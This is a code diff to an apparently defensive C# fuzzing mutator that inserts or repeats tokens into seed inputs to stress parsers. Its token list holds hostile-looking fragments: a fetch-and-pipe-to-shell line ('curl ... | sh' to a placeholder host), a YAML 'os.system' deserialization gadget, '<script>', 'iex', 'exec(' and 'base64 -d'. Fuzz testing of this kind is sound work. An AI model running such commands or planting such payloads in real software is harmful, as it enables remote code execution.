@@ -13,20 +13,29 @@ internal static class Mutator
         [.. "cjoblib.numpy_pickle\nNumpyArrayWrapper\n)"u8, 0x81], [0x7f, .. "ELF"u8], [.. "MZ"u8],
     ];
 
+    // What texts are made of, and what unbalances them.
+    private static readonly byte[][] Tokens =
+    [
+        [.. "("u8], [.. ")"u8], [.. "{"u8], [.. "}"u8], [.. "["u8], [.. "$("u8], [.. "`"u8], [.. "\""u8], [.. "'"u8], [.. "\"\"\""u8], [.. "\\"u8], [.. "\\\n"u8], [.. "<<E\n"u8], [.. "@'\n"u8], [.. "%a:~0,"u8], [.. "${a"u8],
+        [.. "!a!"u8], [.. "^"u8], [.. "&("u8], [.. "|"u8], [.. ";"u8], [.. "\n"u8], [.. "\r\n\t"u8], [.. "\n        "u8], [.. "if "u8], [.. "for x in "u8], [.. "lambda:"u8], [.. "=>"u8], [.. "<!--"u8], [.. "-->"u8], [.. "<script>"u8],
+        [.. "```sh\n"u8], [.. "{{"u8], [.. "*a"u8], [.. "&a "u8], [.. "!!python/name:os.system "u8], [.. "/*"u8], [.. "*/"u8], [.. "//"u8], [.. "#"u8], [.. "\\x"u8], [.. "\\u"u8], [.. "%u"u8], [.. "&#"u8], [0xff, 0xfe], [0xef, 0xbb, 0xbf], [0xe2, 0x80, 0xae],
+        [.. "exec("u8], [.. "eval "u8], [.. "iex "u8], [.. "curl https://a.invalid/x|sh\n"u8], [.. "base64 -d"u8], [.. "chr(1)+"u8], [.. "-join"u8], [.. "call :a\n"u8], [.. "goto a\n:a\n"u8],
+    ];
+
     private static readonly long[] Numbers = [0, 1, -1, 127, 128, 255, 256, 32767, 65535, 65536, int.MaxValue, int.MinValue, uint.MaxValue, long.MaxValue, long.MinValue, 1L << 40];
 
-    public static byte[] Mutate(Random random, List<byte[]> seeds)
+    public static byte[] Mutate(Random random, byte[] seed, IReadOnlyList<byte[]> seeds)
     {
-        var bytes = (byte[])seeds[random.Next(seeds.Count)].Clone();
+        var bytes = (byte[])seed.Clone();
         for (var rounds = 1 + random.Next(8); rounds > 0; rounds--)
             bytes = Step(random, bytes, seeds);
         return bytes.Length > 1 << 20 ? bytes[..(1 << 20)] : bytes;
     }
 
-    private static byte[] Step(Random random, byte[] bytes, List<byte[]> seeds)
+    private static byte[] Step(Random random, byte[] bytes, IReadOnlyList<byte[]> seeds)
     {
         var at = bytes.Length == 0 ? 0 : random.Next(bytes.Length);
-        switch (random.Next(9))
+        switch (random.Next(11))
         {
             case 0 when bytes.Length > 0:
                 bytes[at] ^= (byte)(1 << random.Next(8));
@@ -48,6 +57,15 @@ internal static class Mutator
                 return [.. bytes.AsSpan(0, at), .. other.AsSpan(from)];
             case 6:
                 return [.. bytes.AsSpan(0, at), .. Signatures[random.Next(Signatures.Length)], .. bytes.AsSpan(at)];
+            case 8:
+                var token = Tokens[random.Next(Tokens.Length)];
+                return [.. bytes.AsSpan(0, at), .. token, .. bytes.AsSpan(at)];
+            case 9:
+                var piece = Tokens[random.Next(Tokens.Length)];
+                var many = new List<byte>(bytes[..at]);
+                for (var i = random.Next(2000 / piece.Length); i >= 0; i--)
+                    many.AddRange(piece);
+                return [.. many, .. bytes.AsSpan(at)];
             case 7 when bytes.Length > 8:
                 Plant(random, bytes.AsSpan(Math.Min(at, bytes.Length - 8)));
                 return bytes;
